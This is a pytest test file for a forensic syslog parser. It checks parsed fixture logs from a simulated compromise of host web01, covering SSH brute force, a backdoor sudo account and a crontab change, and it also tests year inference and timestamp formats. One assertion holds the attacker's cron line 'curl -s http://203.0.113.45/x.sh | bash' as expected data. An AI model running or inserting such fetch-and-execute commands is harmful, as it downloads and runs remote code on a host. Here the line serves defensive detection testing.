"""SyslogParser against the web01 truth, the upstream syslog samples, and year inference."""

from __future__ import annotations

import json
import re
from collections import Counter
from datetime import UTC, datetime
from pathlib import Path

import pytest

from sealtrail.analysis.parsers.syslog_text import SyslogParser
from sealtrail.analysis.records import Event, Rejection
from tests.analysis.helpers import member_from_bytes, member_from_file
from tests.shared_data import upstream_path

ROOT = Path(__file__).resolve().parents[3]
WEB01 = ROOT / "fixtures" / "hosts" / "web01"
TRUTH = json.loads((ROOT / "fixtures" / "hosts" / "web01.truth.json").read_text())


def _mtime(rel: str) -> datetime:
    return datetime.fromisoformat(TRUTH["files"][rel]["intended_mtime"].replace("Z", "+00:00"))


def parse_web01(rel: str) -> list[Event | Rejection]:
    member = member_from_file(WEB01 / rel, source_path="/" + rel, mtime=_mtime(rel))
    return list(SyslogParser().parse(member))


def events(records: list[Event | Rejection]) -> list[Event]:
    return [r for r in records if isinstance(r, Event)]


def nonblank_lines(data: bytes) -> int:
    return sum(1 for line in data.splitlines() if line.strip())


@pytest.mark.parametrize("rel", ["var/log/auth.log", "var/log/auth.log.1", "var/log/auth.log.2.gz"])
def test_auth_logs_match_the_truth_counts(rel: str) -> None:
    records = parse_web01(rel)
    counts = TRUTH["counts"][rel]
    assert len(records) == counts["lines"]  # one record per line, none rejected
    assert not [r for r in records if isinstance(r, Rejection)]
    evs = events(records)
    sshd = [e for e in evs if e.process == "sshd"]
    method = Counter((e.event_type, (e.attributes or {}).get("auth_method")) for e in sshd)
    assert method[("logon_failure", "password")] == counts["failed_password"]
    assert method[("logon_success", "password")] == counts["accepted_password"]
    assert method[("logon_success", "publickey")] == counts["accepted_publickey"]
    invalid = [e for e in sshd if (e.attributes or {}).get("reason") == "invalid_user"
               and e.event_type == "logon_failure"]
    assert len(invalid) == counts["invalid_user"]
    sudo = [e for e in evs if e.process == "sudo" and e.event_type == "privilege_use"]
    assert len(sudo) == counts["sudo_command"]
    assert sum(1 for e in sudo if e.attributes["success"] is False) == counts[
        "sudo_incorrect_attempts"]
    assert sum(1 for e in evs if e.process == "useradd") == counts["useradd"]
    assert sum(1 for e in evs if e.process == "usermod") == counts["usermod"]
    attacker = [e for e in evs if "203.0.113.45" in e.message]
    assert len(attacker) == counts["attacker_ip"]
    assert all(e.ts.year == 2026 and e.ts.month == 3 for e in evs)


def test_auth_log_story_events() -> None:
    evs = events(parse_web01("var/log/auth.log"))
    first_success = TRUTH["brute_force"]["first_success"]
    hit = [e for e in evs if e.event_type == "logon_success" and e.src_ip == "203.0.113.45"]
    assert hit[0].ts.isoformat().replace("+00:00", "Z") == first_success
    assert (hit[0].user, hit[0].src_port) == ("deploy", 51122)
    created = [e for e in evs if e.event_type == "account_created"]
    assert [(e.target_user, e.ts.isoformat()) for e in created] == [
        ("backup2", "2026-03-10T02:18:02+00:00")]
    added = [e for e in evs if e.event_type == "group_membership_changed"]
    assert [(e.target_user, e.attributes["group"]) for e in added] == [("backup2", "sudo")]
    failed_sudo = [e for e in evs if e.event_type == "privilege_use"
                   and e.attributes["success"] is False]
    assert failed_sudo[0].command_line == "/usr/bin/su -"
    assert failed_sudo[0].ts.isoformat() == "2026-03-10T02:17:24+00:00"
    # alice's `sudo grep -c 'Failed password'` is privilege use, not a failed logon
    grep = [e for e in evs if e.command_line and "Failed password" in e.command_line]
    assert [e.event_type for e in grep] == ["privilege_use"]
    failures = [e for e in evs if e.event_type == "logon_failure"
                and e.attributes.get("auth_method") == "password"]
    assert sum(1 for e in failures if e.src_ip == "203.0.113.45") == TRUTH["brute_force"][
        "failed_password_lines_from_attacker"]


def test_failed_password_total_across_rotations() -> None:
    total = 0
    for rel in ("var/log/auth.log", "var/log/auth.log.1", "var/log/auth.log.2.gz"):
        total += sum(1 for e in events(parse_web01(rel)) if e.event_type == "logon_failure"
                     and e.attributes.get("auth_method") == "password")
    assert total == TRUTH["totals"]["failed_password_lines"]


@pytest.mark.parametrize("rel", ["var/log/syslog", "var/log/syslog.1"])
def test_syslog_cron_runs_match_the_truth(rel: str) -> None:
    records = parse_web01(rel)
    counts = TRUTH["counts"][rel]
    assert len(records) == counts["lines"]
    runs = [e for e in events(records) if e.attributes.get("action") == "cron_job_run"]
    assert len(runs) == counts["cron_cmd"]
    attacker = [e for e in runs if "203.0.113.45" in (e.command_line or "")]
    assert len(attacker) == counts["attacker_cron_cmd"]
    if attacker:
        assert attacker[0].user == "deploy"
        assert attacker[0].command_line == "curl -s http://203.0.113.45/x.sh | bash"


def test_crontab_replace_in_syslog_is_a_scheduled_task() -> None:
    tasks = [e for e in events(parse_web01("var/log/syslog"))
             if e.event_type == "scheduled_task_created"]
    assert [(e.user, e.ts.isoformat()) for e in tasks] == [("deploy", "2026-03-10T02:19:40+00:00")]


def test_kern_log_boot_and_port_scan() -> None:
    rel = "var/log/kern.log"
    records = parse_web01(rel)
    assert len(records) == TRUTH["counts"][rel]["lines"]
    evs = events(records)
    boots = [e for e in evs if e.event_type == "system_boot"]
    assert [e.ts.isoformat() for e in boots] == ["2026-03-06T08:03:12+00:00"]
    blocks = [e for e in evs if e.event_type == "network_connection"]
    ufw = (WEB01 / rel).read_text().count("[UFW BLOCK]")
    assert len(blocks) == ufw
    assert all(e.attributes["action"] == "block" for e in blocks)
    assert Counter(e.src_ip for e in blocks).most_common(1)[0][0] == "203.0.113.45"


# --- upstream samples -----------------------------------------------------------------------

def test_plaso_edge_case_syslog() -> None:
    path = upstream_path("linux/syslog")
    member = member_from_file(path, source_path="/var/log/syslog",
                              mtime=datetime(2015, 12, 1, tzinfo=UTC))
    records = list(SyslogParser().parse(member))
    assert len(records) == nonblank_lines(path.read_bytes()) == 18
    by_line = {int(r.record_ref.split(":")[1]): r for r in records}
    # Three rollovers (Dec->Mar, Dec->Nov, Nov->Feb) before the last Nov line in 2015.
    assert by_line[1].ts == datetime(2012, 1, 22, 7, 52, 33, tzinfo=UTC)
    assert by_line[1].message == "client: INFO No new content in ímynd.dd."
    # leap day: valid because the inferred year is 2012
    assert by_line[7].ts == datetime(2012, 2, 29, 1, 15, 43, tzinfo=UTC)
    assert by_line[7].computer is None
    assert by_line[8] == Rejection("line:8", "not a syslog line (no timestamp)")  # "MMM 22"
    assert by_line[11].ts.microsecond == 123000
    assert by_line[12].process == "/sbin/anacron"
    # multi-line message: the continuation is its own event, timed like line 13
    assert by_line[14].message == "many syslog parsers."
    assert by_line[14].ts == by_line[13].ts
    assert by_line[14].attributes["continuation_of"] == "line:13"
    repeated = by_line[16]
    assert (repeated.event_type, repeated.attributes["repeated"]) == ("other", 5)
    assert by_line[17].process == "kernel"
    assert by_line[17].computer is None
    assert by_line[18].computer == "victoria"
    assert by_line[5].command_line == "/sbin/status.mycheck)"
    assert by_line[6].process is None
    assert by_line[6].message == "Job `cron.daily' terminated"
    assert all(r.attributes["tz_assumed"] == "UTC" for r in events(records))


def test_plaso_leap_day_rejected_when_the_inferred_year_is_not_leap() -> None:
    path = upstream_path("linux/syslog")
    member = member_from_file(path, source_path="/var/log/syslog",
                              mtime=datetime(2016, 12, 1, tzinfo=UTC))
    by_ref = {r.record_ref: r for r in SyslogParser().parse(member)}
    assert by_ref["line:7"] == Rejection("line:7", "invalid date Feb 29 in inferred year 2013")


def test_syslog_ssh_ipv4_and_ipv6() -> None:
    path = upstream_path("linux/syslog_ssh.log")
    member = member_from_file(path, source_path="/var/log/auth.log",
                              mtime=datetime(2016, 3, 12, tzinfo=UTC))
    evs = events(list(SyslogParser().parse(member)))
    assert len(evs) == 9
    got = [(e.event_type, e.user, e.src_ip, e.src_port) for e in evs[1:4]]
    assert got == [
        ("logon_success", "plaso", "192.168.0.1", 59229),
        ("logon_success", "plaso", "2001:0db8:0a0b:12f0:0000:0000:0000:0001", 42532),
        ("logon_failure", "plaso", "001:db8:a0b:12f0::1", 8759),
    ]
    assert evs[1].attributes["key_fingerprint"] == "00:aa:bb:cc:dd:ee:ff:11:22:33:44:55:66:77:88:99"
    assert evs[5].event_type == "logon_failure"
    assert evs[5].user == "root"
    assert evs[8].attributes["key_fingerprint"].startswith("SHA256:5xyQ")
    assert all(e.ts.year == 2016 for e in evs)


def test_openssh_2k_counts_equal_grep() -> None:
    path = upstream_path("linux/OpenSSH_2k.log")
    text = path.read_text(encoding="utf-8", errors="replace")
    member = member_from_file(path, source_path="/var/log/auth.log",
                              mtime=datetime(2015, 12, 31, tzinfo=UTC))
    records = list(SyslogParser().parse(member))
    assert len(records) == nonblank_lines(path.read_bytes())
    evs = events(records)
    assert len(evs) == len(records)
    failed = [e for e in evs if e.event_type == "logon_failure"
              and e.attributes.get("auth_method") == "password"]
    # 518 plain lines + 2 "message repeated 5 times: [ Failed password ...]" lines
    assert len(failed) == len(re.findall(r"Failed password", text)) == 520
    assert sum(1 for e in failed if e.attributes.get("repeated") == 5) == 2
    invalid = [e for e in evs if e.attributes.get("reason") == "invalid_user"
               and e.event_type == "logon_failure"]
    assert len(invalid) == len(re.findall(r"sshd\[\d+\]: Invalid user", text))
    pam = [e for e in evs if e.attributes.get("action") == "pam_authentication_failure"]
    assert len(pam) == len(re.findall(r"pam_unix\(sshd:auth\): authentication failure", text))
    breakin = [e for e in evs if e.attributes.get("possible_break_in")]
    assert len(breakin) == text.count("POSSIBLE BREAK-IN ATTEMPT")
    accepted = [e for e in evs if e.event_type == "logon_success"]
    assert len(accepted) == len(re.findall(r"Accepted \w+ for", text)) == 1
    assert {e.ts.year for e in evs} == {2015}
    assert len({e.src_ip for e in failed}) > 1


# --- year inference and formats -------------------------------------------------------------

def test_december_to_january_rollover_uses_mtime() -> None:
    data = (b"Dec 30 23:59:01 h app: one\nDec 31 10:00:00 h app: two\n"
            b"Jan  1 00:00:05 h app: three\nJan  2 08:00:00 h app: four\n")
    member = member_from_bytes("/var/log/syslog", data, mtime=datetime(2026, 2, 3, tzinfo=UTC))
    got = [(r.ts.year, r.ts.month, r.attributes["year_inferred"])
           for r in SyslogParser().parse(member)]
    assert got == [(2025, 12, "mtime"), (2025, 12, "mtime"), (2026, 1, "mtime"),
                   (2026, 1, "mtime")]


def test_last_line_after_mtime_in_the_year_belongs_to_the_year_before() -> None:
    data = b"Nov 30 10:00:00 h app: late autumn\n"
    member = member_from_bytes("/var/log/syslog.1", data, mtime=datetime(2026, 1, 5, tzinfo=UTC))
    (event,) = SyslogParser().parse(member)
    assert event.ts == datetime(2025, 11, 30, 10, tzinfo=UTC)


def test_without_mtime_the_current_year_is_used_and_said() -> None:
    data = b"Dec 31 10:00:00 h app: a\nJan  1 10:00:00 h app: b\n"
    member = member_from_bytes("/var/log/syslog", data, mtime=None)
    now = datetime(2030, 6, 1, tzinfo=UTC)
    got = [(r.ts.year, r.attributes["year_inferred"]) for r in SyslogParser(now=now).parse(member)]
    assert got == [(2029, "no mtime"), (2030, "no mtime")]


def test_rfc5424_line_is_converted_to_utc() -> None:
    data = (b'<38>1 2026-03-10T03:14:07.123+01:00 web01 sshd 4242 - [meta x="a\\]b"] '
            b"Accepted password for deploy from 203.0.113.45 port 51122 ssh2\n"
            b"<13>1 2026-03-10T02:00:00Z - - - - -\n")
    member = member_from_bytes("/var/log/messages", data)
    first, second = SyslogParser().parse(member)
    assert first.ts == datetime(2026, 3, 10, 2, 14, 7, 123000, tzinfo=UTC)
    assert (first.event_type, first.user, first.computer, first.process) == (
        "logon_success", "deploy", "web01", "sshd")
    assert first.attributes["structured_data"] == '[meta x="a\\]b"]'
    assert first.attributes["pid"] == 4242
    assert (first.attributes["facility"], first.attributes["severity"]) == (4, 6)
    assert "tz_assumed" not in first.attributes
    assert second.ts == datetime(2026, 3, 10, 2, tzinfo=UTC)


def test_iso_timestamp_lines() -> None:
    data = (b"2026-03-10T02:14:51.000123+00:00 web01 sshd[1]: "
            b"Accepted publickey for a from ::1 port 2 ssh2\n")
    (event,) = SyslogParser().parse(member_from_bytes("/var/log/auth.log", data))
    assert event.ts == datetime(2026, 3, 10, 2, 14, 51, 123, tzinfo=UTC)
    assert (event.event_type, event.src_ip) == ("logon_success", "::1")


def test_check_by_name_and_by_content() -> None:
    parser = SyslogParser()
    named = member_from_bytes("/var/log/auth.log.3.gz", b"")
    assert parser.check(named, b"")
    line = b"Mar 10 02:14:51 web01 sshd[1]: hello\n"
    other = member_from_bytes("/srv/weird.txt", line)
    assert parser.check(other, line)
    assert not parser.check(member_from_bytes("/srv/x.csv", b"a,b,c\n"), b"a,b,c\n")


def test_invalid_utf8_is_replaced_not_rejected() -> None:
    data = b"Mar 10 02:14:51 web01 app[1]: caf\xe9 \xff ok\n"
    (event,) = SyslogParser().parse(member_from_bytes("/var/log/syslog", data,
                                                      mtime=datetime(2026, 3, 11, tzinfo=UTC)))
    assert event.message == "app: caf\ufffd \ufffd ok"
